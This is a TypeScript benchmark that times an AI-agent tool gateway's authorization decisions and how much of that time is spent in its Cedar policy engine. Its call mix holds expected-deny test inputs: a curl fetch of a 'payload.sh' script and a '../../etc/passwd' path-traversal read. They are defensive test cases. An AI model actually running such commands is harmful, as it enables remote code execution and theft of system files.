import { randomBytes } from 'node:crypto';
import { cp, mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { ulid } from 'ulid';
import {
  DynamoEventLog,
  defaultTableNames,
  ensureEventLogTables,
} from '../src/adapters/aws/dynamodb-event-log.js';
import { ensureBucket, S3ArtifactStore } from '../src/adapters/aws/s3-artifact-store.js';
import type { AuthorizationRequest, PolicyDecision } from '../src/domain/policy.js';
import type { ToolCall } from '../src/domain/tools.js';
import { RunJournal } from '../src/evidence/run-journal.js';
import { SecretRedactor } from '../src/gateway/redact.js';
import { ToolGateway } from '../src/gateway/tool-gateway.js';
import { parseRequestFile } from '../src/intake/request-file.js';
import { startLocalEngines } from '../src/local/engines.js';
import { contractAllowsEdit, loadCapabilities } from '../src/policy/capabilities.js';
import { CedarPolicyEngine } from '../src/policy/cedar-engine.js';
import { classifyRisk } from '../src/policy/risk.js';
import { loadRiskRules } from '../src/policy/risk-rules.js';
import type { PolicyEngine } from '../src/ports/policy.js';
import { createSandbox } from '../src/sandbox/create-sandbox.js';
import { authorizationFrame } from '../src/steps/policy-context.js';
import type { StepDeps } from '../src/steps/step-deps.js';
import { percentile, withTempDir } from './measure.js';

const exampleDir = fileURLToPath(new URL('../examples/billing-service/', import.meta.url));
const agent = { kind: 'agent', id: 'bench-model', version: 'gantry-agent/bench' } as const;

/** Latencies of `ToolGateway.authorize` over a mix of calls, and the part of them spent in Cedar. */
export interface GatewayDecisionFigures {
  calls: number;
  denied: number;
  p50Us: number;
  p99Us: number;
  /** The same decisions minus the time inside `PolicyEngine.decide`, call by call. */
  withoutCedarP50Us: number;
  withoutCedarP99Us: number;
  /** Time inside Cedar over all timed calls, as a fraction of the gateway's total decision time. */
  cedarShare: number;
}

/**
 * What an agent asks for while fixing the billing example: mostly reading, some edits and test runs,
 * and the refusals a run meets (a CI workflow, a network tool, a path outside the workspace), each
 * with the decision and determining rule the gateway must give.
 */
const callMix: Array<{ call: Omit<ToolCall, 'id'>; decision: 'allow' | 'deny'; rule: string }> = [
  { call: { name: 'read_file', input: { path: 'src/invoice.js' } }, decision: 'allow', rule: 'base.inspect' },
  { call: { name: 'list_files', input: {} }, decision: 'allow', rule: 'base.inspect' },
  {
    call: { name: 'search_code', input: { pattern: 'discountPercent' } },
    decision: 'allow',
    rule: 'base.inspect',
  },
  {
    call: { name: 'read_file', input: { path: 'test/invoice.test.js' } },
    decision: 'allow',
    rule: 'base.inspect',
  },
  {
    call: {
      name: 'edit_file',
      input: { path: 'src/invoice.js', find: 'discountPercent ||', replace: 'discountPercent ??' },
    },
    decision: 'allow',
    rule: 'tier1.assisted-edit',
  },
  {
    call: { name: 'edit_file', input: { path: '.github/workflows/ci.yml', replace: 'on: push\n' } },
    decision: 'deny',
    rule: 'forbid.ci-workflows',
  },
  { call: { name: 'run_tests', input: {} }, decision: 'allow', rule: 'base.run-tests' },
  {
    call: { name: 'run_command', input: { argv: ['npm', 'test', '--', '--grep', 'invoice'] } },
    decision: 'allow',
    rule: 'tier1.assisted-edit',
  },
  {
    call: { name: 'run_command', input: { argv: ['curl', 'https://example.com/payload.sh'] } },
    decision: 'deny',
    rule: 'command.forbidden',
  },
  {
    call: { name: 'read_file', input: { path: '../../etc/passwd' } },
    decision: 'deny',
    rule: 'path.confined',
  },
];

/** A policy engine that adds up the time spent in the engine it wraps. */
class TimedPolicyEngine implements PolicyEngine {
  spentMs = 0;
  constructor(private readonly engine: PolicyEngine) {}
  get version(): string {
    return this.engine.version;
  }
  decide(request: AuthorizationRequest): PolicyDecision {
    const start = performance.now();
    try {
      return this.engine.decide(request);
    } finally {
      this.spentMs += performance.now() - start;
    }
  }
}

/**
 * Times `ToolGateway.authorize` — schema, path confinement, command rules, the contract's editable
 * paths and Cedar — `calls` times over a realistic mix after `warmup` unmeasured calls. The gateway is
 * built as the agent phase builds it: a RunJournal over DynamoEventLog on dynalite holding the
 * billing example's request and risk, an S3 artifact store, the real sandbox, the shipped Cedar
 * policies and the low-risk-bugfix contract, with the frame the lifecycle steps use.
 *
 * @example
 * const figures = await measureGatewayDecision({ calls: 3000, warmup: 300 });
 * figures.p99Us < 1000;
 */
export async function measureGatewayDecision(options: {
  calls: number;
  warmup: number;
}): Promise<GatewayDecisionFigures> {
  const request = await parseRequestFile(join(exampleDir, 'request.yaml'));
  const capabilities = await loadCapabilities();
  const riskRules = await loadRiskRules();
  const cedar = new TimedPolicyEngine(await CedarPolicyEngine.load());
  const sandbox = await createSandbox();

  return withTempDir('gantry-bench-gateway-', async (dir) => {
    const workspace = join(dir, 'workspace');
    await cp(exampleDir, workspace, { recursive: true });
    await mkdir(join(workspace, '.github', 'workflows'), { recursive: true });
    await writeFile(join(workspace, '.github', 'workflows', 'ci.yml'), 'on: [push]\n');

    const engines = await startLocalEngines(join(dir, 'data'));
    try {
      const tables = defaultTableNames();
      await ensureEventLogTables(engines.dynamo, tables);
      await ensureBucket(engines.s3, 'gantry-artifacts');
      const log = new DynamoEventLog(engines.dynamo, tables);
      const artifacts = new S3ArtifactStore(engines.s3, 'gantry-artifacts');
      const journal = await RunJournal.open(log, ulid(), randomBytes(16).toString('hex'), cedar.version);
      const step = { kind: 'step', id: 'bench' } as const;
      await journal.record('request', 'request.received', step, {
        request,
        raw: await artifacts.put(JSON.stringify(request)),
      });
      await journal.record('risk', 'risk.classified', step, classifyRisk(request, riskRules));

      // authorizationFrame reads only the contracts and the agent's version from the step deps.
      const deps = { capabilities, settings: { agentVersion: agent.version } } as unknown as StepDeps;
      const contract = capabilities.get(request.capability);
      const gateway = new ToolGateway(journal, artifacts, sandbox, new SecretRedactor([]), {
        workspace,
        repositoryPrograms: new Set(['npm', 'node']),
        testCommand: ['npm', 'test'],
        limits: { wallTimeMs: 20_000 },
        agent,
        maxIdenticalCalls: 3,
        policy: cedar,
        frame: authorizationFrame(deps, journal),
        mayEdit: (path) => contractAllowsEdit(contract, path),
        beforeCall: async () => {},
      });

      const nth = (i: number) => callMix[i % callMix.length] as (typeof callMix)[number];
      for (const expected of callMix) {
        const decision = await gateway.authorize({ id: 'check', ...expected.call });
        if (decision.decision !== expected.decision || !decision.determiningPolicies.includes(expected.rule))
          throw new Error(
            `the gateway answered ${decision.decision} by ${decision.determiningPolicies.join(', ')} to ${expected.call.name}, the mix expects ${expected.decision} by ${expected.rule}: ${decision.reasons.join('; ')}`,
          );
      }
      for (let i = 0; i < options.warmup; i++) await gateway.authorize({ id: `w${i}`, ...nth(i).call });

      const totalUs: number[] = [];
      const withoutCedarUs: number[] = [];
      let cedarMs = 0;
      let denied = 0;
      for (let i = 0; i < options.calls; i++) {
        const call = { id: `c${i}`, ...nth(i).call };
        cedar.spentMs = 0;
        const start = performance.now();
        const decision = await gateway.authorize(call);
        const elapsedMs = performance.now() - start;
        totalUs.push(elapsedMs * 1000);
        withoutCedarUs.push((elapsedMs - cedar.spentMs) * 1000);
        cedarMs += cedar.spentMs;
        if (decision.decision === 'deny') denied += 1;
      }
      const sumUs = totalUs.reduce((a, b) => a + b, 0);
      return {
        calls: options.calls,
        denied,
        p50Us: percentile(totalUs, 50),
        p99Us: percentile(totalUs, 99),
        withoutCedarP50Us: percentile(withoutCedarUs, 50),
        withoutCedarP99Us: percentile(withoutCedarUs, 99),
        cedarShare: (cedarMs * 1000) / sumUs,
      };
    } finally {
      await engines.stop();
    }
  });
}
